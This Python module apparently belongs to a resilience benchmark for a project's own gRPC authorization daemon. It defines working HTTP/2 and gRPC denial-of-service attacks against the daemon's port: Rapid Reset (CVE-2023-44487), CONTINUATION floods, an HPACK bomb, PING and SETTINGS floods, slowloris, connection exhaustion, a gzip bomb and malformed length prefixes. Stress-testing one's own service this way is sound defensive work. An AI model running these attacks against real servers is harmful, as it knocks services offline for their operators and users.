"""The attacks by name. Each is given the port, the moment when it must stop, and a good request of the daemon's."""

from __future__ import annotations

import gzip
import resource
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass

from bench.attacks.peer import Gone, Peer, again
from tools.frames import (
    PREFACE,
    block,
    body,
    head,
    headers,
    message,
    more_head,
    ping,
    reset,
    settings,
    whole,
)
from tools.frames import hpack_bomb as bomb
from usher.v1 import authorization_service_pb2 as api
from usher.v1 import question_pb2

Run = Callable[[int, float, bytes], dict[str, int]]


@dataclass(frozen=True)
class Attack:
    """One attack."""

    name: str
    threats: str
    """The numbers of tests/threats.yaml."""
    what: str
    run: Run
    processes: int = 2
    tls: bool = False
    """Whether it is for a daemon that serves TLS."""


ATTACKS: dict[str, Attack] = {}


def attack(name: str, threats: str, *, processes: int = 2, tls: bool = False) -> Callable[[Run], Run]:
    """Puts an attack into the list; its docstring says what it does."""

    def add(run: Run) -> Run:
        ATTACKS[name] = Attack(name, threats, " ".join((run.__doc__ or "").split()), run, processes, tls)
        return run

    return add


def _make(port: int, until: float, make: Callable[[Iterator[int]], bytes]) -> dict[str, int]:
    """As `again`, with what `make` makes of new numbers of streams; answers are read away."""

    def once(peer: Peer) -> None:
        peer.send(make(peer.streams))
        peer.drain()

    return again(port, until, once)


def _after(port: int, until: float, first: bytes, following: bytes) -> dict[str, int]:
    """As `again`: what comes first on a connection, and then what follows, for ever."""

    def once(peer: Peer) -> None:
        peer.send(following if peer.begun else first)
        peer.begun = True

    return again(port, until, once)


@attack("rapid-reset", "B12")
def rapid_reset(port: int, until: float, request: bytes) -> dict[str, int]:
    """Opens streams with a whole request and resets each at once, 50 in a write (CVE-2023-44487)."""
    packed = block(headers())

    def make(streams: Iterator[int]) -> bytes:
        return b"".join(whole(each, packed, request) + reset(each) for each in (next(streams) for _ in range(50)))

    return _make(port, until, make)


@attack("rapid-reset-headers", "B12")
def rapid_reset_headers(port: int, until: float, request: bytes) -> dict[str, int]:
    """The same with headers alone: no handler ever has a message."""
    packed = block(headers())

    def make(streams: Iterator[int]) -> bytes:
        return b"".join(head(each, packed, "END_HEADERS") + reset(each) for each in (next(streams) for _ in range(50)))

    return _make(port, until, make)


def _hold(port: int, until: float, first: bytes, connections: int, *, tls: bool = False) -> dict[str, int]:
    """Opens connections, sends each its first bytes, and holds all of them until then."""
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    held: list[Peer] = []
    count = {"opened": 0, "not let in": 0, "hung up": 0}
    while time.monotonic() < until and count["opened"] + count["not let in"] < min(connections, hard - 100):
        try:
            peer = Peer(port, patience=1.0)
            if first:
                peer.send(first)
            held.append(peer)
            count["opened"] += 1
        except (OSError, Gone):
            count["not let in"] += 1
            time.sleep(0.001)
    while time.monotonic() < until:
        time.sleep(0.1)
    count["hung up"] = sum(peer.closed() for peer in held)
    for peer in held:
        peer.close()
    return count


def _opening(streams: int, each: Callable[[int], bytes]) -> bytes:
    return PREFACE + settings() + b"".join(each(stream) for stream in range(1, 2 * streams, 2))


@attack("half-sent", "B14b")
def half_sent(port: int, until: float, request: bytes) -> dict[str, int]:
    """50 connections a process with 100 streams each, whose messages never come in full."""
    packed = block(headers())
    half = message(request)[: len(request) // 2]
    return _hold(
        port, until, _opening(100, lambda each: head(each, packed, "END_HEADERS") + body(each, half[:200])), 50
    )


@attack("headers-only", "B10")
def headers_only(port: int, until: float, request: bytes) -> dict[str, int]:
    """100 connections a process with 100 streams each, of headers and nothing else."""
    packed = block(headers())
    return _hold(port, until, _opening(100, lambda each: head(each, packed, "END_HEADERS")), 100)


@attack("continuation-flood", "B15")
def continuation_flood(port: int, until: float, request: bytes) -> dict[str, int]:
    """One header block that never ends: 16 KiB of CONTINUATION after the other."""
    first = head(1, block(headers()))
    following = more_head(1, block([("x-" + "a" * 100, "b" * 16_000)])) * 4
    return _after(port, until, first, following)


@attack("empty-continuations", "B15")
def empty_continuations(port: int, until: float, request: bytes) -> dict[str, int]:
    """The same with frames that hold nothing, which no limit of sizes ends."""
    first, following = head(1, block(headers())), more_head(1, b"") * 500
    return _after(port, until, first, following)


@attack("hpack-bomb", "B15")
def hpack_bomb(port: int, until: float, request: bytes) -> dict[str, int]:
    """One header of 4,000 bytes enters the table, and each stream names it 4,000 times, a byte each: 16 MB."""
    return _make(port, until, lambda streams: b"".join(bomb(next(streams)) for _ in range(10)))


@attack("settings-flood", "B15")
def settings_flood(port: int, until: float, request: bytes) -> dict[str, int]:
    """SETTINGS after SETTINGS, each of which must be acknowledged."""
    many = settings(INITIAL_WINDOW_SIZE=65535) * 200

    def once(peer: Peer) -> None:
        peer.send(many)
        peer.drain()

    return again(port, until, once)


@attack("ping-flood", "B13")
def ping_flood(port: int, until: float, request: bytes) -> dict[str, int]:
    """PING after PING, each of which must be answered."""
    many = ping() * 200

    def once(peer: Peer) -> None:
        peer.send(many)
        peer.drain()

    return again(port, until, once)


@attack("ping-flood-unread", "B13")
def ping_flood_unread(port: int, until: float, request: bytes) -> dict[str, int]:
    """PINGs whose answers nobody reads."""
    many = ping() * 200
    return again(port, until, lambda peer: peer.send(many))


@attack("slow-readers", "B7, B14")
def slow_readers(port: int, until: float, request: bytes) -> dict[str, int]:
    """200 connections a process ask for batches, lists and health's Watch with a window of nothing, and never read."""
    asked = api.CheckRequest.FromString(request).question
    items = [api.BatchCheckRequest.Item(id=str(number), question=asked) for number in range(100)]
    calls = (
        ("BatchCheck", api.BatchCheckRequest(items=items).SerializeToString()),
        ("ListModels", api.ListModelsRequest(question=asked).SerializeToString()),
    )
    opening = PREFACE + settings(INITIAL_WINDOW_SIZE=0)
    stream = 1
    for name, data in calls:
        opening += head(stream, block(headers(f"/usher.v1.AuthorizationService/{name}")), "END_HEADERS")
        sent = message(data)
        for at in range(0, len(sent), 16_000):
            last = at + 16_000 >= len(sent)
            opening += body(stream, sent[at : at + 16_000], *(["END_STREAM"] if last else []))
        stream += 2
        # What comes later must not wait for more of the connection's window than there is.
        if len(opening) > 60_000:
            break
    opening += head(stream, block(headers("/grpc.health.v1.Health/Watch")), "END_HEADERS")
    opening += body(stream, message(b""), "END_STREAM")
    return _hold(port, until, opening, 200)


@attack("idle-connections", "B14", processes=1)
def idle_connections(port: int, until: float, request: bytes) -> dict[str, int]:
    """10,000 connections that say nothing."""
    return _hold(port, until, b"", 10_000)


@attack("idle-after-settings", "B14", processes=1)
def idle_after_settings(port: int, until: float, request: bytes) -> dict[str, int]:
    """10,000 connections that greet and say nothing more: no timeout of the handshake ends them."""
    return _hold(port, until, _opening(0, lambda _: b""), 10_000)


@attack("silent-handshakes", "B14", processes=1, tls=True)
def silent_handshakes(port: int, until: float, request: bytes) -> dict[str, int]:
    """2,000 connections to the TLS port that stop in the middle of their ClientHello."""
    return _hold(port, until, b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + b"\x00" * 20, 2_000)


@attack("slowloris", "B14, B14b")
def slowloris(port: int, until: float, request: bytes) -> dict[str, int]:
    """200 connections a process whose one request comes a byte at a time."""
    whole = PREFACE + settings() + head(1, block(headers()), "END_HEADERS")
    whole += body(1, message(request), "END_STREAM")
    peers: list[Peer] = []
    count = {"opened": 0, "hung up": 0}
    for _ in range(200):
        try:
            peers.append(Peer(port))
            count["opened"] += 1
        except OSError:
            continue
    at = 0
    while time.monotonic() < until:
        for peer in list(peers):
            try:
                peer.send(whole[at : at + 1])
            except Gone:
                peers.remove(peer)
                count["hung up"] += 1
        at += 1
        time.sleep(0.05)
    return count


@attack("large-metadata", "B3")
def large_metadata(port: int, until: float, request: bytes) -> dict[str, int]:
    """Calls with 8, 9, 12 and 17 KiB of metadata, 100 of each and again."""

    def make(streams: Iterator[int]) -> bytes:
        out = []
        for size in (8, 9, 12, 17):
            packed = block(headers(x_large="y" * (size * 1024)))
            stream = next(streams)
            out.append(head(stream, packed[:16_000], *(["END_HEADERS"] if len(packed) <= 16_000 else [])))
            if len(packed) > 16_000:
                out.append(more_head(stream, packed[16_000:], "END_HEADERS"))
            out.append(body(stream, message(request), "END_STREAM"))
        return b"".join(out)

    return _make(port, until, make)


@attack("large-tokens", "B1, B23")
def large_tokens(port: int, until: float, request: bytes) -> dict[str, int]:
    """Calls with tokens of 8, 9, 12 and 17 KiB, which are denied."""
    packed = block(headers())
    tokens = [
        api.CheckRequest(question=question_pb2.Question(token="e" * (size * 1024), route="/v1/models"))
        for size in (8, 9, 12, 17)
    ]
    sent = [message(each.SerializeToString()) for each in tokens]

    def make(streams: Iterator[int]) -> bytes:
        out = []
        for data in sent:
            stream = next(streams)
            out += [head(stream, packed, "END_HEADERS"), body(stream, data[:16_000])]
            out.append(body(stream, data[16_000:], "END_STREAM"))
        return b"".join(out)

    return _make(port, until, make)


@attack("gzip-bomb", "B2")
def gzip_bomb(port: int, until: float, request: bytes) -> dict[str, int]:
    """Messages of 10 MB of zeros in 10 KB of gzip."""
    packed = block(headers(grpc_encoding="gzip"))
    bomb = gzip.compress(bytes(10_000_000))
    sent = b"\x01" + message(bomb)[1:]

    def make(streams: Iterator[int]) -> bytes:
        stream = next(streams)
        return head(stream, packed, "END_HEADERS") + body(stream, sent, "END_STREAM")

    return _make(port, until, make)


@attack("lying-prefix", "B1")
def lying_prefix(port: int, until: float, request: bytes) -> dict[str, int]:
    """Messages that say to be 4 GiB, or 256 KiB, and are 10 bytes."""
    packed = block(headers())

    def make(streams: Iterator[int]) -> bytes:
        one, two = next(streams), next(streams)
        return (
            head(one, packed, "END_HEADERS")
            + body(one, b"\x00\xff\xff\xff\xff0123456789", "END_STREAM")
            + head(two, packed, "END_HEADERS")
            + body(two, b"\x00\x00\x04\x00\x000123456789", "END_STREAM")
        )

    return _make(port, until, make)
